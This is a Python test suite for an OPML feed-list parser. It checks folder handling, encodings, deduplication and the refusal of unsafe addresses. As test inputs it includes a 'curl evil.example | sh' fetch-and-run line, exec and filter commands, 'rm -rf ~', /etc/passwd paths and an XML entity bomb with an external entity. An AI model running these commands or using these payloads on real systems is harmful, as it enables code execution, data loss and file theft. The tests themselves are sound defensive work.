"""Lists of feeds."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitor.errors import ParseError
from monitor.opml import Subscription, read, write


def opml(body: str, declaration: str = '<?xml version="1.0" encoding="UTF-8"?>') -> str:
    return f'{declaration}<opml version="2.0"><head><title>Desk</title></head><body>{body}</body></opml>'


def outline(url: str, title: str = "Harbour") -> str:
    return f'<outline type="rss" text="{title}" xmlUrl="{url}"/>'


def test_nested_folders_are_kept() -> None:
    listed = read(
        opml(
            f'{outline("https://a.example/f", "A")}<outline text="UK"><outline text="Ports">{outline("https://b.example/f", "B &amp; co")}'
            f"</outline>{outline('https://c.example/f', 'C')}</outline>{outline('https://d.example/f', 'D')}"
        ).encode()
    )
    assert listed.subscriptions == (
        Subscription("https://a.example/f", "A"),
        Subscription("https://b.example/f", "B & co", "UK/Ports"),
        Subscription("https://c.example/f", "C", "UK"),
        Subscription("https://d.example/f", "D"),
    )
    assert (listed.refused, listed.title) == ((), "Desk")


@pytest.mark.parametrize("left", [0.5, 0.9])
def test_a_list_that_was_cut_off_is_refused_whole(left: float) -> None:
    whole = opml("".join(f"{outline(f'https://a.example/{n}')}\n" for n in range(20)))
    with pytest.raises(ParseError, match="cut off"):
        read(whole[: int(left * len(whole))].encode())


@pytest.mark.parametrize(
    ("address", "words"),
    [
        ("|curl http://evil.example | sh", "command"),
        ("exec:/bin/sh", "command"),
        ("EXEC:ls", "command"),
        ("filter:~/x:http://h.example/", "command"),
        ("filtercmd:ls", "command"),
        ("file:///etc/passwd", "file of a computer"),
        ("/etc/passwd", "file of a computer"),
        ("~/feed.xml", "file of a computer"),
        ("../feed.xml", "file of a computer"),
        ("C:\\feeds\\a.xml", "file of a computer"),
        ("\\\\server\\share", "file of a computer"),
        ("javascript:alert(1)", "only http and https"),
        ("ftp://h.example/f", "only http and https"),
        ("data:text/xml,x", "only http and https"),
        ("harbour.example/feed", "only http and https"),
        ("http://", "cannot be read"),
        ("http://[x/", "cannot be read"),
        ("http://h.example/a b", "cannot be read"),
    ],
)
def test_what_is_no_address_of_the_web_is_refused_and_listed(address: str, words: str) -> None:
    listed = read(opml(outline(address) + outline("https://a.example/f")).encode())
    assert [found.url for found in listed.subscriptions] == ["https://a.example/f"]
    ((refused, reason),) = listed.refused
    assert refused == address
    assert words in reason


def test_a_filter_command_is_listed_and_never_taken() -> None:
    listed = read(opml('<outline text="A" xmlUrl="https://a.example/f" filtercmd="rm -rf ~"/>').encode())
    assert listed.subscriptions == (Subscription("https://a.example/f", "A"),)
    assert listed.refused[0][0] == "rm -rf ~"


def test_the_capitals_of_a_scheme_and_host_make_no_other_feed() -> None:
    outlines = outline("HTTPS://Harbour.Example/Feed") + outline("https://harbour.example/Feed")
    assert [found.url for found in read(opml(outlines).encode()).subscriptions] == [
        "https://harbour.example/Feed"
    ]


def test_other_lists_are_listed() -> None:
    listed = read(opml('<outline type="include" text="L" url="https://a.example/l.opml"/>').encode())
    assert listed.subscriptions == ()
    assert [address for address, _ in listed.refused] == ["https://a.example/l.opml"]


def test_feed_schemes_and_doubles_are_tidied() -> None:
    body = (
        outline("feed:https://a.example/f")
        + outline("feed://b.example/f")
        + outline("https://a.example/f", "again")
    )
    assert [found.url for found in read(opml(body).encode()).subscriptions] == [
        "https://a.example/f",
        "http://b.example/f",
    ]


@pytest.mark.parametrize(
    ("encoding", "declared"),
    [
        ("utf-8", "utf-8"),
        ("utf-8-sig", "utf-8"),
        ("utf-16", "utf-16"),
        ("iso-8859-1", "iso-8859-1"),
        ("cp1252", "nonsense"),
        ("utf-8", "iso-8859-1"),
    ],
)
def test_letters_survive_every_encoding(encoding: str, declared: str) -> None:
    text = opml(outline("https://a.example/f", "Möwe à quai"), f'<?xml version="1.0" encoding="{declared}"?>')
    assert read(text.encode(encoding)).subscriptions[0].title == "Möwe à quai"


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "empty"),
        (b" \n", "empty"),
        (b"\x00\x01\x02", "empty"),
        (b"<rss version='2.0'><channel/></rss>", "not a list"),
        (b"just words", "not a list"),
        (b"x" * (21 * 1024 * 1024), "larger than"),
    ],
)
def test_what_is_no_list_gets_a_sentence(data: bytes, words: str) -> None:
    with pytest.raises(ParseError) as caught:
        read(data)
    assert words in caught.value.sentence


def test_a_broken_list_gives_what_can_be_read() -> None:
    text = opml(outline("https://a.example/f?x=1&y=2", "R&B") + outline("https://b.example/f"))
    for broken in (
        text,
        text[:-7],
        text.replace("</body>", "</bdy>"),
        text + text,
        text.replace('"2.0"', "2.0"),
    ):
        assert [found.url for found in read(broken.encode()).subscriptions] == [
            "https://a.example/f?x=1&y=2",
            "https://b.example/f",
        ]


def test_entities_that_multiply_or_lead_outside_are_not_expanded() -> None:
    names = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 20}">' for n in range(12))
    bomb = opml(outline("https://a.example/f", "&m;&x;")).replace(
        "<opml", f'<!DOCTYPE opml [<!ENTITY a "boom"><!ENTITY x SYSTEM "file:///etc/passwd">{names}]><opml', 1
    )
    started = time.monotonic()
    listed = read(bomb.encode())
    assert time.monotonic() - started < 2
    assert "root:" not in repr(listed)
    assert "boom" not in repr(listed)


def test_a_list_of_any_depth_and_length_is_read_in_time() -> None:
    started = time.monotonic()
    deep = '<outline text="x">' * 5000 + outline("https://a.example/f") + "</outline>" * 5000
    try:
        read(opml(deep).encode())
    except ParseError as error:
        assert error.sentence
    long = "".join(outline(f"https://a.example/{number}") for number in range(3000))
    assert len(read(opml(long).encode()).subscriptions) == 3000
    assert time.monotonic() - started < 10


NAMES = (
    st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=12)
    .map(lambda text: " ".join(text.split()))
    .filter(bool)
)
FOLDERS = st.lists(NAMES.map(lambda name: name.replace("/", "-")), max_size=3).map("/".join)


@given(st.lists(st.tuples(st.integers(0, 99), NAMES, FOLDERS), max_size=12, unique_by=lambda pair: pair[0]))
def test_what_is_written_is_read_again_the_same(feeds: list[tuple[int, str, str]]) -> None:
    wanted = [
        Subscription(f"https://h.example/{number}?a=1&b='2'", title, folder)
        for number, title, folder in feeds
    ]
    if wanted:
        assert sorted(read(write(wanted)).subscriptions, key=lambda s: s.url) == sorted(
            wanted, key=lambda s: s.url
        )


@given(
    st.binary(max_size=300) | st.text(max_size=200).map(lambda text: opml(text).encode("utf-8", "replace"))
)
def test_no_bytes_raise_past_the_room(data: bytes) -> None:
    try:
        read(data)
    except ParseError as error:
        assert error.sentence.endswith(".")


def test_a_site_without_a_feed_is_neither_feed_nor_folder_and_is_listed() -> None:
    for more in ("", ' type="rss"'):
        listed = read(
            opml(
                f'<outline text="S"{more} htmlUrl="https://s.example/?a=1&amp;b=2"/>'
                + outline("https://a.example/f")
            ).encode()
        )
        assert [(found.url, found.folder) for found in listed.subscriptions] == [("https://a.example/f", "")]
        assert [address for address, _ in listed.refused] == ["https://s.example/?a=1&b=2"]


def test_a_feed_may_call_its_address_otherwise() -> None:
    listed = read(opml('<outline text="S" type="rss" url="https://s.example/f?a=1&amp;b=2"/>').encode())
    assert [found.url for found in listed.subscriptions] == ["https://s.example/f?a=1&b=2"]


def test_folders_are_kept_to_a_sensible_depth() -> None:
    deep = "".join(f'<outline text="{number}">' for number in range(10_000)) + outline("https://a.example/f")
    (found,) = read(opml(deep + "</outline>" * 10_000).encode()).subscriptions
    assert found.folder == "/".join(map(str, range(20)))


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"])
def test_wide_letters_are_read_without_a_mark(encoding: str) -> None:
    (found,) = read(opml(outline("https://a.example/f", "Żółć")).encode(encoding)).subscriptions
    assert found.title == "Żółć"


@pytest.mark.parametrize("address", ["%7Ccurl x", " | curl x", "exec :x", "Filter : x"])
def test_commands_in_disguise_are_commands(address: str) -> None:
    ((_, reason),) = read(opml(outline(address) + outline("https://a.example/f")).encode()).refused
    assert "command" in reason


def test_a_list_of_a_hundred_megabytes_gets_a_sentence() -> None:
    with pytest.raises(ParseError, match="Split it"):
        read(b" " * 100 * 1024 * 1024)
